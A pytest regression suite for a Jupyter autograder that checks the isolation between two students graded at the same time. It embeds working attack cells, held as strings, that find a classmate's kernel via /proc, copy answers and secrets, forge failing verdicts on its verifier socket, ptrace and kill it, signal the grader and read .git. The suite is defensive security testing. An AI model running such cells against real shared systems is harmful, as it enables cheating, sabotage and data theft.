"""Hostile submissions against a classmate graded at the same time (``--jobs 2``).

One grading run, two students: an attacker with a blank notebook and an honest victim, graded
side by side. The attacker's extra cells find the victim's kernel and try, one cell per attack, to
copy its answers, read its files, poison its hidden-check verdicts, ptrace and kill it, reach a
listener on loopback, signal the grader and read the checkout's ``.git``. Each test below checks
one of them by its real effect (the victim's grade, the attacker's points, the listener's
connections, the grader's signal handler, a secret line of the victim appearing in the attacker's
feedback). The victim's check of ``sgd`` is slow and its notebook ends with a slow cell, so that
the attacks find it running.

Against the grader before kernels got their own PID, network and user namespaces, an allowlisted
file system and an inherited verifier channel, every attack below succeeded (each test says how).
"""
import signal
import socket
import threading
import uuid

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from autograder.course import REPO_ROOT
from autograder.grading.options import Options
from autograder.grading.run import grade
from autograder.commands.release import release
from tests import tiny_course as tc

ASSIGNMENT, NOTEBOOK = "00_pair", "pair.ipynb"
POINTS = {"test_add": 2, "test_mul": 3, "test_sgd": 4}

# Every test reads the class that the module's fixture grades.
pytestmark = pytest.mark.slow
SECRET = "victim-private-answer-5d1e"  # a comment in the victim's answer; nobody else may print it

SGD_SOLUTION = '''def sgd(w, dw, config=None):
    """next_w = w - learning_rate * dw"""
    if config is None:
        config = {}
    config.setdefault("learning_rate", 1e-2)
    ### BEGIN SOLUTION
    next_w = w - config["learning_rate"] * dw
    ### END SOLUTION
    return next_w, config'''

SGD_TEST = '''### BEGIN HIDDEN TESTS
from autograder.checks.optimizers import check_sgd
check_sgd(sgd)
### END HIDDEN TESTS'''


def _meta(grade_id, points=None):
    return tc._meta(grade_id, grade=points is not None, solution=points is None, locked=points is not None,
                    points=points)


def solution_notebook():
    cells = [new_markdown_cell("# Two students", id="intro"),
             new_code_cell(tc.ADD_SOLUTION, id="add", metadata=_meta("add")),
             new_code_cell(tc.ADD_TEST, id="test-add", metadata=_meta("test_add", POINTS["test_add"])),
             new_code_cell(tc.MUL_SOLUTION, id="mul", metadata=_meta("mul")),
             new_code_cell(tc.MUL_TEST, id="test-mul", metadata=_meta("test_mul", POINTS["test_mul"])),
             new_code_cell(SGD_SOLUTION, id="sgd", metadata=_meta("sgd")),
             new_code_cell(SGD_TEST, id="test-sgd", metadata=_meta("test_sgd", POINTS["test_sgd"]))]
    notebook = new_notebook(cells=cells)
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return notebook


# The honest victim: right answers, a check of sgd that takes a few seconds, a slow last cell.
VICTIM_ANSWERS = {
    "add": f"def add(a, b):\n    return a + b  # {SECRET}",
    "mul": "def mul(a, b):\n    return a * b",
    "sgd": '''import time
SLOW_FIRST_CALL = [True]

def sgd(w, dw, config=None):
    if SLOW_FIRST_CALL:
        SLOW_FIRST_CALL.pop()
        time.sleep(4)
    if config is None:
        config = {}
    config.setdefault("learning_rate", 1e-2)
    return w - config["learning_rate"] * dw, config''',
}
VICTIM_LAST_CELL = "import time\ntime.sleep(8)\nprint('done thinking')"

# Finds the victim's kernels in /proc and takes its answers through /proc/<pid>/root.
DISCOVER_AND_COPY = '''import glob, json, os, tempfile, time
VICTIM = "{victim}"

def report(attack, outcome):  # the test reads these lines in the attacker's feedback
    print(f"ATTACK {{attack}}: {{outcome}}")

def victim_kernels():
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                if "/" + VICTIM + "/" in os.readlink(f"/proc/{{entry}}/cwd"):
                    found.append(int(entry))
            except OSError:
                pass
    return found

def parent_of(pid):
    return int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])

def mine(pid):
    while pid > 1 and pid != os.getpid():
        try:
            pid = parent_of(pid)
        except OSError:
            return True  # gone meanwhile
    return pid == os.getpid()

def only_my_processes():
    return all(mine(int(e)) for e in os.listdir("/proc") if e.isdigit())

started = time.time()
PIDS = victim_kernels()
while not PIDS and time.time() < started + 30 and not (time.time() > started + 1 and only_my_processes()):
    time.sleep(0.05)
    PIDS = victim_kernels()
report("discover", PIDS)
COPIED = []
for pid in PIDS:
    pattern = f"/proc/{{pid}}/root{{tempfile.gettempdir()}}/course-grade-*/submitted/{{VICTIM}}/*/*.ipynb"
    for path in glob.glob(pattern):
        try:
            cells = json.load(open(path))["cells"]
        except (OSError, ValueError):
            continue
        COPIED = ["".join(c["source"]) for c in cells
                  if c["metadata"].get("nbgrader", {{}}).get("grade_id") in ("add", "mul", "sgd")]
report("copy", f"{{len(COPIED)}} cells")'''

READ_ANOTHER_WAY = '''if not PIDS:
    report("read cwd", "no classmate kernel found")
for pid in PIDS:
    for path in glob.glob(f"/proc/{pid}/cwd/*.ipynb"):
        try:
            text = open(path).read()
        except OSError:
            continue
        report("read cwd", [line.strip() for line in text.splitlines() if "victim-private" in line])
    for path in glob.glob(f"/proc/{pid}/root{tempfile.gettempdir()}/course-grade-*/gradebook.db"):
        try:
            report("read gradebook", f"{len(open(path, 'rb').read())} bytes")
        except OSError as error:
            report("read gradebook", f"failed: {error}")'''

# Sends failing check requests to the victim's verifier socket while the victim's test cell runs.
POISON = '''import json, socket, struct
def send_failing_check(path):
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(1)
    try:
        sock.connect(path)
        body = json.dumps({"op": "check", "module": "autograder.checks.optimizers", "name": "check_sgd",
                           "args": {"list": []}, "kwargs": {"dict": {}}}).encode()
        sock.sendall(struct.pack("!Q", len(body)) + body)
        return 1
    except OSError:
        return 0
    finally:
        sock.close()

SOCKETS = [path for pid in PIDS for path in glob.glob(f"/proc/{pid}/root{tempfile.gettempdir()}/course-grade-*/*.sock")]
sent, started = 0, time.time()
while SOCKETS and time.time() < started + 6:
    sent += sum(send_failing_check(path) for path in SOCKETS)
    time.sleep(0.1)
report("poison", f"{len(SOCKETS)} sockets, {sent} requests")'''

PTRACE = '''import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if not victim_kernels():
    report("ptrace", "no classmate kernel found")
for pid in victim_kernels():
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        os.waitpid(pid, 0x40000000)  # __WALL
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        report("ptrace", f"attached to {pid}")
    else:
        report("ptrace", f"failed: {os.strerror(ctypes.get_errno())}")'''

KILL = '''import signal
if not victim_kernels():
    report("kill", "no classmate kernel found")
for pid in victim_kernels():
    try:
        os.kill(pid, signal.SIGKILL)
        report("kill", f"killed {pid}")
    except OSError as error:
        report("kill", f"failed: {error}")'''

CONNECT = '''import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"attacker")
    report("tcp", "connected")
except OSError as error:
    report("tcp", f"failed: {{error}}")'''

# The grader is this kernel's ancestor: factory, grading process, the process that runs grade().
SIGNAL_GRADER = '''try:
    factory = os.getppid()
    grader = parent_of(parent_of(factory))
    os.kill(grader, signal.SIGUSR1)
    report("signal grader", f"sent to {grader}")
except (OSError, ValueError, IndexError) as error:
    report("signal grader", f"failed: {error}")'''

READ_GIT = '''import cs_utils
repository = os.path.dirname(os.path.dirname(cs_utils.__file__))
try:
    git = os.path.join(repository, ".git")
    folder = open(git).read().split("gitdir:")[1].strip() if os.path.isfile(git) else git
    report("git", f"read {open(os.path.join(folder, 'HEAD')).read().strip()!r} from {folder}")
except (OSError, IndexError) as error:
    report("git", f"failed: {error}")'''

EXEC_COPIED = '''for source in COPIED:
    exec(source)'''


def attacker_notebook(released, victim, port):
    notebook = nbformat.read(released, as_version=4)
    attacks = [DISCOVER_AND_COPY.format(victim=victim), READ_ANOTHER_WAY, PTRACE, POISON, KILL,
               CONNECT.format(port=port), SIGNAL_GRADER, READ_GIT]
    for offset, source in enumerate(attacks):
        notebook.cells.insert(1 + offset, new_code_cell(source))
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in ("add", "mul", "sgd"):
            cell.source = EXEC_COPIED if grade_id == "add" else "# copied above"
    return notebook


def victim_notebook(released):
    notebook = nbformat.read(released, as_version=4)
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in VICTIM_ANSWERS:
            cell.source = VICTIM_ANSWERS[grade_id]
    notebook.cells.append(new_code_cell(VICTIM_LAST_CELL))
    return notebook


class Listener:
    """A TCP listener on loopback that counts the connections it accepts."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port, self.connections = self.server.getsockname()[1], 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("classmates")
    solutions, assignments, submissions = root / "solutions", root / "assignments", root / "submitted"
    source = solutions / ASSIGNMENT / NOTEBOOK
    source.parent.mkdir(parents=True)
    nbformat.write(solution_notebook(), source)
    release(solutions, assignments, show_progress=False)
    released = assignments / ASSIGNMENT / NOTEBOOK
    # Names no other grading run on this machine uses: the attacks pick their targets by name.
    token = uuid.uuid4().hex[:8]
    attacker, victim = f"a_attacker_{token}", f"b_victim_{token}"
    listener, signals = Listener(), []
    previous = signal.signal(signal.SIGUSR1, lambda number, frame: signals.append(number))
    try:
        for student, notebook in ((attacker, attacker_notebook(released, victim, listener.port)),
                                  (victim, victim_notebook(released))):
            target = submissions / student / ASSIGNMENT / NOTEBOOK
            target.parent.mkdir(parents=True)
            nbformat.write(notebook, target)
        out = root / "out"
        results, _ = grade(submissions, out, Options(cell_timeout=20, budget=120, jobs=2, show_progress=False),
                           solutions)
    finally:
        signal.signal(signal.SIGUSR1, previous)
        listener.server.close()
    results = {r.student.split("_")[1]: r for r in results}
    feedback = (out / "feedback" / attacker / ASSIGNMENT / "pair.html").read_text()
    return {"results": results, "feedback": feedback, "listener": listener, "signals": signals}


def score(result, grade_id=None):
    return sum(c.score for c in result.cells if grade_id in (None, c.grade_id))


def test_the_victim_keeps_full_marks_and_ok(graded):
    victim = graded["results"]["victim"]
    cells = {c.grade_id: (c.status, c.score, c.message) for c in victim.cells}
    assert (victim.status, score(victim)) == ("ok", sum(POINTS.values())), (victim.message, cells)


def test_the_attacks_ran(graded):
    for attack in ("discover", "copy", "read cwd", "ptrace", "poison", "kill", "tcp", "signal grader", "git"):
        assert f"ATTACK {attack}" in graded["feedback"], attack


def test_copying_answers_through_proc_root_earns_nothing(graded):
    """Before: the attacker found the victim's kernel in /proc, read the victim's submitted
    notebook through /proc/<pid>/root and ran its answers: 9 of 9 points for a blank notebook."""
    assert score(graded["results"]["attacker"]) == 0


def test_the_victims_files_cannot_be_read_any_other_way(graded):
    """Before: /proc/<pid>/cwd of the victim's kernel gave the victim's notebook (its secret
    comment appeared in the attacker's feedback). The scratch gradebook was already blanked."""
    assert SECRET not in graded["feedback"]


def test_verdicts_sent_to_a_classmates_channel_are_not_recorded(graded):
    """Before: failing check requests sent to the victim's verifier socket (reached through
    /proc/<pid>/root) were recorded against the victim's test cell: it lost its 4 points."""
    victim = graded["results"]["victim"]
    assert score(victim, "test_sgd") == POINTS["test_sgd"], victim.cells
    assert "ATTACK poison: 0 sockets" in graded["feedback"]


def test_a_classmate_cannot_be_ptraced_or_killed(graded):
    """Before: PTRACE_ATTACH to the victim's kernel succeeded, and os.kill killed it: the victim
    got `kernel-died`."""
    assert "ATTACK ptrace: attached" not in graded["feedback"]
    assert "ATTACK kill: killed" not in graded["feedback"]
    assert graded["results"]["victim"].status == "ok"


def test_a_kernel_cannot_reach_a_listener_on_loopback(graded):
    """Before: the kernel connected to the test's listener on 127.0.0.1."""
    assert graded["listener"].connections == 0
    assert "ATTACK tcp: connected" not in graded["feedback"]


def test_a_kernel_cannot_signal_the_grader(graded):
    """Before: the kernel walked up its parents to the process that runs grade() and sent it
    SIGUSR1 (caught here; a SIGTERM would have ended the run)."""
    assert graded["signals"] == []


def test_a_kernel_cannot_read_the_checkouts_git(graded):
    """Before: the kernel read .git (HEAD) of the checkout, where every solution's history lives."""
    if not (REPO_ROOT / ".git").exists():
        pytest.skip("this checkout has no .git")
    assert "ATTACK git: read" not in graded["feedback"]
    assert "ATTACK git: failed" in graded["feedback"]
